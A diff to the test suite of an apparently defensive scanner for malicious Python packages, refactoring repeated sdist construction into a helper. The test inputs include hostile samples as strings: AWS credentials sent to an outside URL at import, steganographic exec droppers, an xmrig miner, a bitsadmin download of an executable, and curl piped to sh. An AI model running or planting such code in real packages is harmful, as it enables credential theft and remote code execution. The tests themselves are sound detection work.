@@ -371,6 +371,11 @@ def test_reversed_decoding_needs_a_reversal_in_the_file() -> None:
 _SETUP = "from setuptools import setup\nsetup(name='helperlib', version='0.1', packages=['helperlib'])\n"
 
 
+def _lib(init: str) -> bytes:
+    """An sdist of a plain setup.py and a package whose __init__.py is ``init``."""
+    return sdist("helperlib", "0.1", {"setup.py": _SETUP, "helperlib/__init__.py": init})
+
+
 @pytest.mark.parametrize("code", [
     "from stegano import lsb\nexec(lsb.reveal('helperlib/logo.png'))\n",
     "from steganography.steganography import Steganography\nexec(Steganography.decode('helperlib/icon.png'))\n",
@@ -378,7 +383,7 @@ _SETUP = "from setuptools import setup\nsetup(name='helperlib', version='0.1', p
 def test_code_hidden_in_an_image_and_executed_is_malicious(code: str) -> None:
     """Text revealed from an image's pixels (stegano, judyb, steganography) is decoded data; run at import it
     is a dropper (apicolor and friends, 2022). These were clean."""
-    result, findings = verdict(sdist("helperlib", "0.1", {"setup.py": _SETUP, "helperlib/__init__.py": code}))
+    result, findings = verdict(_lib(code))
     assert result == "malicious" and "package.decoded-exec:critical" in findings
 
 
@@ -386,7 +391,7 @@ def test_program_started_without_a_window_at_import_is_flagged() -> None:
     """A program started at import with no console and its output unread: a dropper's start. Was clean."""
     code = ("import os, subprocess\n"
             "subprocess.Popen([os.path.join(os.environ['TEMP'], 'vcpkgsrv.exe')], creationflags=0x08000000)\n")
-    data = sdist("helperlib", "0.1", {"setup.py": _SETUP, "helperlib/__init__.py": code})
+    data = _lib(code)
     result, findings = verdict(data)
     assert result != "clean" and "package.import-process:high" in findings
     [proc] = [s for s in facts_of(data).signals if s.kind == "exec.process"]
@@ -399,7 +404,7 @@ def test_system_query_without_a_window_stays_clean() -> None:
             "    out = subprocess.run('wmic CPU Get NumberOfCores /Format:csv'.split(), capture_output=True,\n"
             "                         text=True, creationflags=subprocess.CREATE_NO_WINDOW)\n"
             "    return out.stdout\n\nCORES = cores()\n")
-    result, findings = verdict(sdist("helperlib", "0.1", {"setup.py": _SETUP, "helperlib/__init__.py": code}))
+    result, findings = verdict(_lib(code))
     assert result == "clean", findings
 
 
@@ -427,7 +432,7 @@ def test_setup_py_dns_recon_with_backticks_is_a_beacon() -> None:
 ])
 def test_import_time_intent_shapes_are_critical(code: str, expected: str) -> None:
     """Each was suspicious at most before (a high finding at best)."""
-    result, findings = verdict(sdist("helperlib", "0.1", {"setup.py": _SETUP, "helperlib/__init__.py": code}))
+    result, findings = verdict(_lib(code))
     assert result == "malicious" and expected in findings
 
 
@@ -436,7 +441,7 @@ def test_hotkeys_and_defender_status_stay_clean() -> None:
     code = ("import subprocess\nfrom pynput import keyboard\n\ndef watch(cb):\n"
             "    return keyboard.GlobalHotKeys({'<ctrl>+<alt>+h': cb})\n\ndef defender():\n"
             "    return subprocess.run(['powershell', '-Command', 'Get-MpPreference'], capture_output=True).stdout\n")
-    result, findings = verdict(sdist("helperlib", "0.1", {"setup.py": _SETUP, "helperlib/__init__.py": code}))
+    result, findings = verdict(_lib(code))
     assert result == "clean", findings
 
 
@@ -446,7 +451,7 @@ def test_miner_and_secret_scanner_in_python_literals() -> None:
     code = ("import subprocess\n"
             "subprocess.Popen(['./xmrig', '-o', 'stratum+tcp://pool.supportxmr.com:3333', '--donate-level', '1'])\n"
             "subprocess.run(['trufflehog', 'filesystem', '/'], capture_output=True)\n")
-    facts = facts_of(sdist("helperlib", "0.1", {"setup.py": _SETUP, "helperlib/__init__.py": code}))
+    facts = facts_of(_lib(code))
     assert any(s.kind == "exec.shell-downloader" and s.detail.get("pattern") == "crypto-miner" for s in facts.signals)
     assert any(s.kind == "source.credential-file" and s.detail.get("store") == "secret-scanner"
                for s in facts.signals)
@@ -460,12 +465,12 @@ def test_aws_keys_from_the_sdk_sent_at_import_are_exfiltration() -> None:
             "c = boto3.Session().get_credentials().get_frozen_credentials()\n"
             "urllib.request.urlopen('https://telemetry-sync.io/v', data=json.dumps([c.access_key, c.secret_key])"
             ".encode())\n")
-    result, findings = verdict(sdist("helperlib", "0.1", {"setup.py": _SETUP, "helperlib/__init__.py": code}))
+    result, findings = verdict(_lib(code))
     assert result == "malicious" and "package.exfiltration:critical" in findings, findings
     signer = ("import boto3, requests\n\ndef call(url, body):\n    s = boto3.Session()\n"
               "    creds = s.get_credentials()\n    auth = (creds.access_key, creds.secret_key)\n"
               "    return requests.post(url, data=body, auth=auth)\n")
-    result, findings = verdict(sdist("helperlib", "0.1", {"setup.py": _SETUP, "helperlib/__init__.py": signer}))
+    result, findings = verdict(_lib(signer))
     assert result == "clean", findings
 
 
@@ -511,7 +516,7 @@ def test_chat_urls_that_name_no_channel_are_not_drop_hosts() -> None:
         assert ind.classify_url(url) is not None, url
     code = ("API = 'https://api.telegram.org/bot'\nEXAMPLE = 'https://hooks.slack.com/XXX'\n"
             "class Notifier:\n    url: str = 'https://discord.com/api/v10'\n")
-    assert verdict(sdist("helperlib", "0.1", {"setup.py": _SETUP, "helperlib/__init__.py": code}))[0] == "clean"
+    assert verdict(_lib(code))[0] == "clean"
 
 
 def test_main_blocks_run_as_programs_not_on_import() -> None:
@@ -582,7 +587,7 @@ def test_pages_opened_in_a_browser_and_commands_in_help_text() -> None:
     cgi = ("import os, base64\n\ndef run_cgi(script, auth, query):\n    env = dict(os.environ)\n"
            "    env['REMOTE_USER'] = base64.decodebytes(auth).decode()\n    os.execve(script, [script, query], env)\n")
     for code in (browser, template, cgi):
-        result, findings = verdict(sdist("helperlib", "0.1", {"setup.py": _SETUP, "helperlib/__init__.py": code}))
+        result, findings = verdict(_lib(code))
         assert result == "clean", (code, findings)
 
 
@@ -623,7 +628,7 @@ def test_what_still_counts_after_the_second_batch() -> None:
     assert "package.obfuscated-code:high" in verdict(sdist("helperlib", "0.1", {
         "setup.py": _SETUP, "helperlib/__init__.py": armored}))[1]
     bits = "import os\nos.system('bitsadmin /transfer j http://45.61.136.12/a.exe C:\\\\a.exe')\n"
-    assert verdict(sdist("helperlib", "0.1", {"setup.py": _SETUP, "helperlib/__init__.py": bits}))[0] != "clean"
+    assert verdict(_lib(bits))[0] != "clean"
 
 
 def test_maintainer_branches_of_setup_py_do_not_run_at_install() -> None:
@@ -691,4 +696,4 @@ def test_third_held_out_batch_shapes() -> None:
     assert findings == ["package.install-network:high"], findings  # the font download itself is real
     runs = ("import os\nINSTALL = 'curl -LsSf https://x.example.net/i.sh | sh'\n\n"
             "def go():\n    os.system(INSTALL)\n\ngo()\n")
-    assert verdict(sdist("helperlib", "0.1", {"setup.py": _SETUP, "helperlib/__init__.py": runs}))[0] != "clean"
+    assert verdict(_lib(runs))[0] != "clean"
